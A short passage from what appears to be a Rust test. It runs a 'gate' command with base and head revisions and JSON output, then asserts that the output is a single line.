        &["gate", "--base", &base, "--head", &head, "--format", "json"],
    );
    assert_eq!(raw.stdout.trim_end().lines().count(), 1);
}
